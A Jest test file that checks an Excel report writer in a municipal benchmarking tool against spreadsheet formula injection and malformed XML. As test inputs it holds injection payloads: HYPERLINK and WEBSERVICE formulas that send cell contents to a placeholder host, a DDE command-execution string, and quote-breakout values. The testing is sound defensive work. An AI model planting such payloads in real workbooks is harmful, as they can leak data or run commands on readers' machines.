/**
 * Hostile corpus, area "xlsx": what reaches the .xlsx writer and the report builders.
 *
 * Input → outcome, for every case:
 * - an untyped value in a cell (an object such as {"formula": "HYPERLINK(…)"}, rich text,
 *   a hyperlink object, a date, a number where text belongs, NaN) → a programming error
 *   naming the sheet and cell before exceljs sees it; no file is written;
 * - a formula the report does not plan (HYPERLINK, WEBSERVICE, an external reference,
 *   a sheet that is not in the report) → the same;
 * - typed text with formula-like content and characters XML 1.0 forbids (status symbols,
 *   SSB's `updated`, file names, template and indicator labels, sheet names, indicator
 *   ids) → exit 0 and a workbook whose parts are all well-formed (xmllint), whose formulas
 *   are exactly the planned ones (no hyperlinks, no external links), and that LibreOffice
 *   reads completely: every profile row has its figures;
 * - a user indicator with absurd `decimals` → a report with a sane number format;
 * - an indicator id holding MATCH's wildcards (* ? ~) → its own figures, never another's;
 *   one too long for Excel's formula text → bad input ("bad-input", exit 2) naming it on one line;
 * - "$&" or "$'" in a sheet name or comment, CR/CRLF in text → written as they are (LF).
 * The CLI cases also check that the previous report file is left as it was when nothing
 * is written, and that no temporary file is left behind.
 */
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import JSZip from "jszip";
import { benchmark, defaultOptions } from "../../../src/kostra/benchmark";
import { KostraError } from "../../../src/kostra/errors";
import { registerUserTemplate, resetUserCatalog, userIndicatorFromSsb } from "../../../src/kostra/catalog";
import type { Dataset, Indicator, Observation } from "../../../src/kostra/types";
import { runReport } from "../../../src/cli/report";
import { observationKey } from "../../../src/report/data-sheet";
import { buildReport, type ReportRequest } from "../../../src/report/report";
import { empty, formula, num, stringLiteral, text, type PlanCell, type ReportPlan } from "../../../src/report/plan";
import { writeXlsx } from "../../../src/report/xlsx-writer";
import { writeObservationsFile } from "../../../src/sources/observations-file";
import { sampleDataset } from "../../../src/sources/sample";
import { recalculate } from "../../support/libreoffice";
import { checkWorkbook, malformedParts, plannedFormulas } from "../../support/xlsx-check";
import { LONG_TEST_TIMEOUT_MS } from "../../support/timing";
import { LIBRARIES_PICK } from "../../support/ssb-pick";
import { simpleMark } from "../../../src/kostra/describe";

jest.setTimeout(LONG_TEST_TIMEOUT_MS);

const dir = mkdtempSync(join(tmpdir(), "kostra-hostile-xlsx-"));

/** Characters XML 1.0 forbids: C0 controls, U+FFFE, U+FFFF, and a low and a high surrogate each alone (in this order they make no pair). */
const FORBIDDEN = "\u0001\u0008\u000B\uFFFE\uFFFF\uDC00\uD800";
/** Text that a spreadsheet would run as a formula, or that tries to close a string literal or a quoted sheet name in one. */
const FORMULA_LIKE = ['=HYPERLINK("http://x.example/?"&A2,"klikk")', '"),HYPERLINK("http://x.example','\'!A1,WEBSERVICE("http://x.example"),\'', "+cmd|' /C calc'!A0", "@SUM(1)"];

/** Text as the writer writes it: every forbidden character (all lone in the texts here) shown as U+FFFD. */
const shown = (t: string): string => t.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF\uD800-\uDFFF]/g, "\uFFFD");

const SHEET = "Ark";
const onePlan = (cell: PlanCell, more: Partial<ReportPlan> = {}): ReportPlan => ({
  sheets: [{ key: "s", name: SHEET, blocks: [{ at: "A1", rows: [[text("Navn"), cell]] }] }],
  names: [],
  ...more,
});

afterEach(() => resetUserCatalog());

// ---------------------------------------------------------------------------

describe("closed cell kinds: the writer turns nothing but the report's own formulas into formulas", () => {
  // What exceljs would have made of each: a formula, a link, rich text, a date, a number.
  const notText: [string, unknown][] = [
    ["a formula object", { formula: 'HYPERLINK("http://x.example","klikk")' }],
    ["a WEBSERVICE formula object", { formula: 'WEBSERVICE("http://x.example/?"&A2)' }],
    ["a shared formula object", { sharedFormula: "A1" }],
    ["a hyperlink object", { text: "klikk", hyperlink: "http://x.example" }],
    ["rich text", { richText: [{ text: "=1+1" }] }],
    ["an error value", { error: "#REF!" }],
    ["a date", new Date("2025-01-01")],
    ["a number", 42],
    ["a boolean", true],
    ["a String object", new String("=1+1")],
    ["null", null],
    ["a list", ["=1+1"]],
  ];

  it.each(notText)("%s in a text cell → a programming error naming the cell", async (_, value) => {
    const plan = onePlan({ kind: "text", text: value } as unknown as PlanCell);
    await expect(writeXlsx(plan)).rejects.toThrow(/^Ark!B1: .*not text/);
  });

  it.each<[string, unknown]>([
    ["NaN", NaN],
    ["Infinity", Infinity],
    ["text", "1"],
    ["an object", { formula: "1+1" }],
  ])("%s in a number cell → a programming error", async (_, value) => {
    await expect(writeXlsx(onePlan({ kind: "number", value } as unknown as PlanCell))).rejects.toThrow(/^Ark!B1: .*(finite|number)/);
  });

  it.each<[string, unknown, RegExp]>([
    ["an object", { formula: "1+1" }, /not text/],
    ["text without the leading =", "1+1", /start with "="/],
    ["HYPERLINK", '=HYPERLINK("http://x.example","klikk")', /HYPERLINK/],
    ["WEBSERVICE", '=WEBSERVICE("http://x.example/?"&A1)', /WEBSERVICE/],
    ["WEBSERVICE with its file prefix", '=_xlfn.WEBSERVICE("http://x.example")', /WEBSERVICE/],
    ["lower-case hyperlink", '=hyperlink("http://x.example")', /HYPERLINK/],
    ["a reference to another workbook", "=[1]Ark!A1", /\[/],
    ["a reference to another workbook by path", "='http://x.example/[a.xlsx]Ark'!A1", /not in the report/],
    ["a DDE call", "=cmd|' /C calc'!A0", /not in the report/],
    ["a sheet that is not in the report", "='Annet ark'!A1", /not in the report/],
    ["an unquoted sheet reference", "=Ark!A1", /!/],
    ["an unterminated text", '=IF(A1="x,1,2)', /unterminated/],
    ["a text longer than Excel allows in a formula", `=IF(A1="${"x".repeat(256)}",1,2)`, /255/],
  ])("a formula cell with %s → a programming error", async (_, value, message) => {
    await expect(writeXlsx(onePlan({ kind: "formula", formula: value } as unknown as PlanCell))).rejects.toThrow(message);
  });

  it("an unknown cell kind, or a cell that is not an object → a programming error", async () => {
    await expect(writeXlsx(onePlan({ kind: "hyperlink", text: "x" } as unknown as PlanCell))).rejects.toThrow(/^Ark!B1: .*kind/);
    await expect(writeXlsx(onePlan("=1+1" as unknown as PlanCell))).rejects.toThrow(/^Ark!B1: /);
  });

  it("the report's own formulas, quoted sheet names included, are written exactly", async () => {
    const plan: ReportPlan = {
      sheets: [
        { key: "a", name: "O'Neil \"data\"", blocks: [{ at: "A1", rows: [[text("x"), num(2)]] }] },
        { key: "b", name: SHEET, blocks: [{ at: "A1", rows: [[formula(`='O''Neil "data"'!B1*2`), formula('=IF(ISNUMBER(A1),"ja ""sikkert""","")'), empty]] }] },
      ],
      names: [],
    };
    const check = await checkWorkbook(await writeXlsx(plan), plan);
    expect(check.problems).toEqual([]);
    expect([...check.written.cells.values()]).toEqual([`'O''Neil "data"'!B1*2`, 'IF(ISNUMBER(A1),"ja ""sikkert""","")']);
  });

  it("text that looks like a formula is written as text, in well-formed parts, with no formula at all", async () => {
    const plan: ReportPlan = { sheets: [{ key: "s", name: SHEET, blocks: [{ at: "A1", rows: FORMULA_LIKE.map((t) => [text(t)]) }] }], names: [] };
    const bytes = await writeXlsx(plan);
    const check = await checkWorkbook(bytes, plan);
    expect(check.problems).toEqual([]);
    expect(check.written.cells.size).toBe(0);
    const recalc = await recalculate(bytes);
    FORMULA_LIKE.forEach((t, i) => expect([recalc.value(SHEET, `A${i + 1}`), recalc.formula(SHEET, `A${i + 1}`)]).toEqual([t, undefined]));
  });
});

// ---------------------------------------------------------------------------

describe("XML-safe text everywhere the writer writes", () => {
  it("cells, sheet and table names, table headers, names' comments and every chart text: well-formed parts, forbidden characters shown as U+FFFD", async () => {
    const odd = `Ark ${FORBIDDEN}`;
    const plan: ReportPlan = {
      sheets: [
        {
          key: "s",
          name: odd,
          blocks: [
            { at: "A1", rows: [[text(`Kommune${FORBIDDEN}`), text("Verdi")]], style: "header" },
            { at: "A2", rows: [[text(`Bø${FORBIDDEN}`), num(7, "#,##0")], [text(`=1+1${FORBIDDEN}`), formula(`=IF(A2="x${FORBIDDEN}",1,B2)`)]] },
          ],
          tables: [{ name: "Tabell1", range: "A1:B3" }],
          charts: [
            {
              name: `diagram${FORBIDDEN}`,
              type: "columnClustered",
              title: `Tittel${FORBIDDEN} <&>`,
              categories: { sheet: "s", range: "A2:A3" },
              series: [{ name: `Serie${FORBIDDEN}`, values: { sheet: "s", range: "B2:B3" } }],
              position: { from: "D2", to: "J12" },
              valueAxisTitle: `Akse${FORBIDDEN}`,
            },
          ],
        },
      ],
      names: [{ name: "Verdier", ref: { sheet: "s", range: "B2:B3" }, comment: `Kommentar${FORBIDDEN}` }],
    };
    const bytes = await writeXlsx(plan);
    const check = await checkWorkbook(bytes, plan);
    expect(check.problems).toEqual([]);
    const zip = await JSZip.loadAsync(bytes);
    const strings = await zip.file("xl/sharedStrings.xml")!.async("string");
    expect(strings).toContain("Kommune\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD");
    const chart = await zip.file("xl/charts/chart1.xml")!.async("string");
    expect(chart).toContain("Tittel\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD &lt;&amp;&gt;");

    const recalc = await recalculate(bytes);
    const sheet = shown(odd);
    expect(recalc.sheetNames).toEqual([sheet]);
    expect(recalc.value(sheet, "A2")).toBe("Bø\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD");
    expect(recalc.value(sheet, "A3")).toBe("=1+1\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD");
    expect(recalc.value(sheet, "B3")).toBe(7);
  });

  it("line ends: CR and CRLF are written as LF in cells and formula texts alike, so a lookup still finds its cell; a table header with a line break is refused", async () => {
    const key = "a\r\nb\rc";
    const plan: ReportPlan = {
      sheets: [
        {
          key: "s",
          name: SHEET,
          blocks: [{ at: "A1", rows: [[text(key), num(5), formula(`=INDEX(B1:B1,MATCH(${stringLiteral(key)},A1:A1,0))`)]] }],
        },
      ],
      names: [{ name: "Verdi", ref: { sheet: "s", range: "B1" }, comment: "linje 1\nlinje 2" }],
    };
    const bytes = await writeXlsx(plan);
    expect((await checkWorkbook(bytes, plan)).problems).toEqual([]);
    const workbookXml = await (await JSZip.loadAsync(bytes)).file("xl/workbook.xml")!.async("string");
    expect(workbookXml).toContain('comment="linje 1&#10;linje 2"');
    const recalc = await recalculate(bytes);
    expect([recalc.value(SHEET, "A1"), recalc.value(SHEET, "C1")]).toEqual(["a\nb\nc", 5]);

    const table: ReportPlan = { sheets: [{ key: "s", name: SHEET, blocks: [{ at: "A1", rows: [[text("Kom\nmune")], [num(1)]] }], tables: [{ name: "Tabell", range: "A1:A2" }] }], names: [] };
    await expect(writeXlsx(table)).rejects.toThrow(/header cell A1 holds a line break/);
  });

  it("a sheet name and a comment holding string-replacement patterns ($&, $', $`) are written as they are", async () => {
    const odd = "Kr $& $' $` $$";
    const plan: ReportPlan = {
      sheets: [{ key: "s", name: odd, blocks: [{ at: "A1", rows: [[num(1), num(2)]] }] }],
      names: [{ name: "Verdier", ref: { sheet: "s", range: "A1:B1" }, comment: "$' $& $`" }],
    };
    const bytes = await writeXlsx(plan);
    const check = await checkWorkbook(bytes, plan);
    expect(check.problems).toEqual([]);
    expect([...check.written.names]).toEqual([["Verdier", `'${odd.replace(/'/g, "''")}'!$A$1:$B$1`]]);
  });

  it("a sheet name Excel cannot hold → a programming error, not a silently renamed sheet that formulas miss", async () => {
    const named = (name: string) => ({ sheets: [{ key: "s", name, blocks: [] }], names: [] });
    await expect(writeXlsx(named("x".repeat(32)))).rejects.toThrow(/31/);
    await expect(writeXlsx(named("a/b"))).rejects.toThrow(/sheet name/);
    await expect(writeXlsx(named("'a"))).rejects.toThrow(/sheet name/);
    await expect(writeXlsx(named(""))).rejects.toThrow(/sheet name/);
    await expect(writeXlsx(named("a\nb"))).rejects.toThrow(/sheet name/);
    await expect(writeXlsx({ sheets: [{ key: "s", name: { formula: "1" }, blocks: [] }], names: [] } as unknown as ReportPlan)).rejects.toThrow(/sheet name/);
  });

  it.each<[string, unknown]>([
    ["an absurd number format", `#,##0.${"0".repeat(300)}`],
    ["a number format that is not text", { formula: "1" }],
  ])("%s → a programming error", async (_, format) => {
    await expect(writeXlsx(onePlan({ kind: "number", value: 1, format } as unknown as PlanCell))).rejects.toThrow(/^Ark!B1: .*format/);
  });
});

// ---------------------------------------------------------------------------
// Hostile typed inputs through the builders.

const pick = LIBRARIES_PICK;

/** A user indicator whose id, labels and unit are hostile, with `decimals` as large as a crafted settings part can make it. */
const hostileIndicator = (): Indicator => ({
  ...userIndicatorFromSsb(pick),
  id: `bruker-x"),HYPERLINK("http://x.example/?"&A2,"y${FORBIDDEN}'!`,
  label: { nb: `${FORMULA_LIKE[0]}${FORBIDDEN}`, en: `${FORMULA_LIKE[1]}${FORBIDDEN}` },
  decimals: 1e9,
});

/** A user template named to break out of a quoted sheet name and a string literal, with hostile indicator labels. */
function registerHostileTemplate(): { id: string; indicator: Indicator } {
  const indicator = hostileIndicator();
  const id = `mal-"'<x>${FORBIDDEN}`;
  const problems = registerUserTemplate(
    {
      id,
      label: { nb: `O'Neil"),HYPERLINK("x${FORBIDDEN}`, en: `O'Neil"),HYPERLINK("x${FORBIDDEN}` },
      indicators: [indicator.id, "kunstformidling"],
      defaultComparisons: ["asker"],
      network: "asss",
      labels: { kunstformidling: { nb: `'!A1,WEBSERVICE("http://x.example"),'${FORBIDDEN}`, en: "x" } },
      groups: [{ from: "kunstformidling", label: { nb: `=HYPERLINK("http://x.example")${FORBIDDEN}`, en: "x" } }],
    },
    [indicator],
  );
  expect(problems).toEqual([]);
  return { id, indicator };
}

/** The sample with hostile typed text in every string field the report shows, and the hostile indicator's data. */
function hostileDataset(indicatorId: string): Dataset {
  const sample = sampleDataset();
  const provenance = sample.provenance.map((p) => ({
    ...p,
    table: `12362${FORBIDDEN}`,
    query: `${FORMULA_LIKE[0]}${FORBIDDEN}`,
    updated: `2025-01-01${FORBIDDEN}`,
    fetchedAt: `${FORMULA_LIKE[2]}${FORBIDDEN}`,
    notes: (p.notes ?? []).map((n) => `${n}${FORBIDDEN}`),
  }));
  // A status symbol on the earliest rows of the data sheet, so every later string would be lost if it broke the XML.
  const observations: Observation[] = sample.observations.map((o) => (o.year === 2015 ? { ...o, status: `${o.status ?? ""}${FORBIDDEN}` } : o));
  const copies = sample.observations.filter((o) => o.indicator === "kunstformidling").map((o) => ({ ...o, indicator: indicatorId }));
  return { observations: [...observations, ...copies], provenance };
}

const REQUEST: Omit<ReportRequest, "sectors"> = { municipality: "0219", year: 2017, years: [2015, 2016, 2017], lang: "nb", comparisons: ["asker"] };

describe("hostile typed inputs through the report builders → writer", () => {
  it("no planned formula holds input text other than an escaped lookup key, and none calls outside the workbook", () => {
    const { id, indicator } = registerHostileTemplate();
    const { plan } = buildReport(hostileDataset(indicator.id), { ...REQUEST, sectors: [id, "plan-miljo-kultur"], references: ["eakuo"] });
    const formulas = [...plannedFormulas(plan).cells.values()];
    expect(formulas.length).toBeGreaterThan(500);
    // Take out the string literals and the quoted sheet names: what is left is the report's own vocabulary.
    const functions = new Set(formulas.flatMap((f) => [...f.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')*'!/g, "S!").matchAll(/([A-Za-z_][\w.]*)\(/g)].map((m) => m[1])));
    // FIXED and ROUND write the profile's sentences' numbers.
    const vocabulary = ["ABS", "AND", "AVERAGE", "COUNT", "COUNTIF", "FIXED", "IF", "IFERROR", "INDEX", "ISNUMBER", "MATCH", "MAX", "MIN", "ROUND", "ROW", "SUM", "SUMIF", "SUMPRODUCT"];
    expect([...functions].filter((f) => !vocabulary.includes(f))).toEqual([]);
    expect(functions).toContain("MATCH");
    // The hostile id reaches formulas only as its lookup key: encoded, so the literal is plain text to Excel and MATCH.
    const key = observationKey(indicator.id, "baerum", 2017);
    expect(key).toMatch(/^[\w.:%{}|-]+$/);
    expect(formulas.some((f) => f.includes(`MATCH("${key}",`))).toBe(true);
  });

  it("a user indicator id too long for Excel's formula text → bad input naming it on one line, no plan", () => {
    const indicator = { ...userIndicatorFromSsb(pick), id: `bruker-${"x".repeat(250)}` };
    expect(registerUserTemplate({ id: "mal-lang", label: { nb: "Lang", en: "Long" }, indicators: [indicator.id], defaultComparisons: [], network: "asss" }, [indicator])).toEqual([]);
    const sample = sampleDataset();
    const dataset = { ...sample, observations: sample.observations.filter((o) => o.indicator === "kunstformidling").map((o) => ({ ...o, indicator: indicator.id })) };
    let error: unknown;
    try {
      buildReport(dataset, { ...REQUEST, comparisons: [], sectors: ["mal-lang"] });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(KostraError);
    const k = error as KostraError;
    expect(k.code).toBe("bad-input");
    expect(k.messageIn("nb")).toMatch(/^Indikator-id-en bruker-x+… er for lang til å slås opp i en formel \(høyst \d+ tegn\)\.$/);
    expect(k.messageIn("en")).toMatch(/^The indicator id bruker-x+… is too long/);
    expect(k.messageIn("nb").length).toBeLessThan(200);
  });

  it("a user indicator with decimals 1e9 gets a sane number format instead of crashing the report", async () => {
    const { id, indicator } = registerHostileTemplate();
    const { plan } = buildReport(hostileDataset(indicator.id), { ...REQUEST, sectors: [id] });
    const formats = new Set(plan.sheets.flatMap((s) => s.blocks.flatMap((b) => b.rows.flatMap((r) => r.map((c) => ("format" in c ? c.format : undefined))))));
    for (const f of formats) expect((f ?? "").length).toBeLessThan(30);
    expect((await checkWorkbook(await writeXlsx(plan), plan)).problems).toEqual([]);
  });

  it("a status symbol holding U+FFFE (the issue's case): every profile row is read by LibreOffice, with the engine's figures", async () => {
    const sample = sampleDataset();
    // On the data sheet's first rows: before the fix every later string, keys included, was lost.
    const dataset: Dataset = { ...sample, observations: sample.observations.map((o) => (o.year === 2015 ? { ...o, status: "\uFFFE" } : o)) };
    const { plan } = buildReport(dataset, { ...REQUEST, sectors: ["plan-miljo-kultur"] });
    const bytes = await writeXlsx(plan);
    expect((await checkWorkbook(bytes, plan)).problems).toEqual([]);
    const recalc = await recalculate(bytes);
    const sheet = plan.sheets[0].name;
    const engine = benchmark(dataset, { ...defaultOptions("plan-miljo-kultur", "0219", 2017), comparisons: ["asker"] });
    expect(engine.rows).toHaveLength(6);
    engine.rows.forEach((row, i) => {
      expect(recalc.value(sheet, `A${8 + i}`)).toBe(row.indicator.label.nb);
      expect(recalc.value(sheet, `B${8 + i}`)).toBe(row.value);
      expect(recalc.value(sheet, `C${8 + i}`)).toBeCloseTo(row.average!, 9);
    });
  });

  it("an indicator id with MATCH's wildcards (* ? ~) finds its own row, never another indicator's", async () => {
    const ids = ["bruker-abc", "bruker-a*", "bruker-a?c", "bruker-a~c"];
    const indicators = ids.map((id, i) => ({ ...userIndicatorFromSsb(pick), id, label: { nb: `Mål ${i}`, en: `Measure ${i}` } }));
    expect(registerUserTemplate({ id: "mal-jokertegn", label: { nb: "Jokertegn", en: "Wildcards" }, indicators: ids, defaultComparisons: [], network: "asss" }, indicators)).toEqual([]);
    const base = sampleDataset().observations.filter((o) => o.indicator === "kunstformidling");
    // Each indicator its own figures: 1000 × its position plus the original value.
    const dataset: Dataset = { provenance: sampleDataset().provenance, observations: ids.flatMap((id, i) => base.map((o) => ({ ...o, indicator: id, value: o.value === null ? null : o.value + 1000 * (i + 1) }))) };
    const { plan } = buildReport(dataset, { ...REQUEST, comparisons: [], years: [2017], sectors: ["mal-jokertegn"] });
    const bytes = await writeXlsx(plan);
    expect((await checkWorkbook(bytes, plan)).problems).toEqual([]);
    const recalc = await recalculate(bytes);
    const engine = benchmark(dataset, { ...defaultOptions("mal-jokertegn", "0219", 2017), comparisons: [] });
    engine.rows.forEach((row, i) => {
      expect([row.indicator.id, recalc.value(plan.sheets[0].name, `B${8 + i}`)]).toEqual([ids[i], row.value]);
      expect(recalc.value(plan.sheets[0].name, `C${8 + i}`)).toBeCloseTo(row.average!, 9);
    });
  });

  it("the whole report with hostile labels, names, ids, provenance and status symbols: exactly the planned formulas, well-formed parts, and LibreOffice reads every profile row", async () => {
    const { id, indicator } = registerHostileTemplate();
    const dataset = hostileDataset(indicator.id);
    const { plan } = buildReport(dataset, { ...REQUEST, sectors: [id, "plan-miljo-kultur"], references: ["eakuo"], mergedHistory: "sum" });
    const bytes = await writeXlsx(plan);
    const check = await checkWorkbook(bytes, plan);
    expect(check.problems).toEqual([]);

    const recalc = await recalculate(bytes);
    expect(recalc.sheetNames).toEqual(plan.sheets.map((s) => s.name));
    for (const [sectorId, sheet] of [
      [id, plan.sheets[0].name],
      ["plan-miljo-kultur", plan.sheets[2].name],
    ]) {
      const engine = benchmark(dataset, { ...defaultOptions(sectorId, "0219", 2017), comparisons: ["asker"] });
      expect(engine.rows.length).toBeGreaterThan(1);
      engine.rows.forEach((row, i) => {
        const r = 8 + i;
        // The label, Bærum's value and the network average: all there, and the engine's.
        expect(recalc.value(sheet, `A${r}`)).toBe(shown(row.indicator.label.nb) + simpleMark(row, engine.options));
        expect(recalc.value(sheet, `B${r}`)).toBe(row.value);
        expect(recalc.value(sheet, `C${r}`)).toBeCloseTo(row.average!, 9);
      });
    }
  });
});

// ---------------------------------------------------------------------------

describe("kostra report from a hostile fetch file", () => {
  it("a file name with formula-like text and forbidden characters → exit 0; exactly the planned formulas; well-formed parts", async () => {
    const work = mkdtempSync(join(dir, "typed-"));
    const input = join(work, "hostile-text.json");
    const sample = sampleDataset();
    const dataset: Dataset = {
      observations: sample.observations,
      provenance: sample.provenance.map((p) => ({ ...p, synthetic: false, source: "file" as const, query: `${FORMULA_LIKE[0]}${FORBIDDEN}` })),
    };
    writeFileSync(input, writeObservationsFile(dataset, { createdAt: new Date("2025-01-01T00:00:00Z") }));
    const out = join(work, "report.xlsx");
    const err: string[] = [];
    const args = ["--input", input, "--out", out, "--sector", "plan-miljo-kultur", "--municipality", "0219", "--year", "2017", "--years", "2015-2017"];
    const code = await runReport(args, { out: () => undefined, err: (t) => err.push(t), readFile: (p) => readFileSync(p) });
    expect([code, err.join("")]).toEqual([0, expect.stringContaining("skrev")]);
    const { plan } = buildReport(dataset, { ...REQUEST, comparisons: undefined, sectors: ["plan-miljo-kultur"] });
    expect((await checkWorkbook(readFileSync(out), plan)).problems).toEqual([]);
    expect(readdirSync(work).sort()).toEqual(["hostile-text.json", "report.xlsx"]);
  });

  it("provenance fields holding formula objects: no workbook is written and the previous report is left as it was", async () => {
    const work = mkdtempSync(join(dir, "objects-"));
    const input = join(work, "formula-objects.json");
    const file = JSON.parse(writeObservationsFile(sampleDataset(), { createdAt: new Date("2025-01-01T00:00:00Z") }));
    file.provenance = file.provenance.map((p: Record<string, unknown>) => ({
      ...p,
      query: { formula: 'HYPERLINK("http://x.example/?"&A2,"klikk")' },
      table: { formula: 'WEBSERVICE("http://x.example/?"&A2)' },
      updated: { text: "klikk", hyperlink: "http://x.example" },
    }));
    writeFileSync(input, JSON.stringify(file));
    const out = join(work, "report.xlsx");
    writeFileSync(out, "the previous report");
    const args = ["--input", input, "--out", out, "--sector", "plan-miljo-kultur", "--municipality", "0219", "--year", "2017"];
    // The file reader's schema refuses the file (exit 2), naming the field; the writer's own
    // check (a programming error) is the second line of defence, tested above.
    const error = await runReport(args, { out: () => undefined, err: () => undefined, readFile: (p) => readFileSync(p) }).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(KostraError);
    expect((error as KostraError).code).toBe("bad-input");
    expect((error as KostraError).text.nb).toMatch(/provenance\[0\]\.(query|table|updated)/);
    expect(readFileSync(out, "utf8")).toBe("the previous report");
    expect(readdirSync(work).sort()).toEqual(["formula-objects.json", "report.xlsx"]);
  });
});

// ---------------------------------------------------------------------------

describe("the workbook check itself finds what it must", () => {
  const plan: ReportPlan = {
    sheets: [{ key: "s", name: SHEET, blocks: [{ at: "A1", rows: [[num(1), formula("=A1*2")]] }] }],
    names: [],
  };
  async function edited(change: (zip: JSZip) => Promise<void>): Promise<Uint8Array> {
    const zip = await JSZip.loadAsync(await writeXlsx(plan));
    await change(zip);
    return zip.generateAsync({ type: "uint8array" });
  }
  const sheetXml = (zip: JSZip) => zip.file("xl/worksheets/sheet1.xml")!.async("string");

  it("passes the file as written", async () => {
    expect((await checkWorkbook(await writeXlsx(plan), plan)).problems).toEqual([]);
  });

  it.each<[string, (zip: JSZip) => Promise<void>, RegExp]>([
    ["a formula that was not planned", async (z) => void z.file("xl/worksheets/sheet1.xml", (await sheetXml(z)).replace('<c r="A1"><v>1</v></c>', '<c r="A1"><f>HYPERLINK("http://x")</f></c>')), /Ark!A1: written .*not planned/],
    ["a planned formula changed", async (z) => void z.file("xl/worksheets/sheet1.xml", (await sheetXml(z)).replace("<f>A1*2</f>", "<f>A1*3</f>")), /Ark!B1: planned "A1\*2", written "A1\*3"/],
    ["a planned formula missing", async (z) => void z.file("xl/worksheets/sheet1.xml", (await sheetXml(z)).replace("<f>A1*2</f>", "")), /Ark!B1: planned .*not written/],
    ["a shared formula", async (z) => void z.file("xl/worksheets/sheet1.xml", (await sheetXml(z)).replace("<f>A1*2</f>", '<f t="shared" ref="B1" si="0">A1*2</f>')), /shared formula/],
    ["a hyperlink", async (z) => void z.file("xl/worksheets/sheet1.xml", (await sheetXml(z)).replace("</sheetData>", '</sheetData><hyperlinks><hyperlink ref="A1" r:id="rId9"/></hyperlinks>')), /unplanned <hyperlinks>/],
    [
      "an external relationship",
      async (z) => void z.file("xl/_rels/workbook.xml.rels", (await z.file("xl/_rels/workbook.xml.rels")!.async("string")).replace("</Relationships>", '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="http://x.example/a.xlsx" TargetMode="External"/></Relationships>')),
      /external relationship to http:\/\/x\.example/,
    ],
    ["an external link part", async (z) => void z.file("xl/externalLinks/externalLink1.xml", "<externalLink/>"), /unexpected part xl\/externalLinks/],
    ["a character XML forbids", async (z) => void z.file("xl/workbook.xml", (await z.file("xl/workbook.xml")!.async("string")).replace("</workbook>", "<!--\uFFFE--></workbook>")), /workbook\.xml is not well-formed/],
    ["a chart reference that was not planned", async (z) => void z.file("xl/charts/chart1.xml", "<c:chartSpace xmlns:c=\"urn:c\"><c:f>'Ark'!$A$1</c:f></c:chartSpace>"), /chart reference: written/],
  ])("reports %s", async (_, change, problem) => {
    const check = await checkWorkbook(await edited(change), plan);
    expect(check.problems).toEqual(expect.arrayContaining([expect.stringMatching(problem)]));
  });

  it("names each malformed part", async () => {
    const bytes = await edited(async (z) => void z.file("xl/styles.xml", "<styleSheet><unclosed></styleSheet>"));
    expect(await malformedParts(bytes)).toEqual([expect.stringMatching(/^xl\/styles\.xml is not well-formed XML: /)]);
  });
});
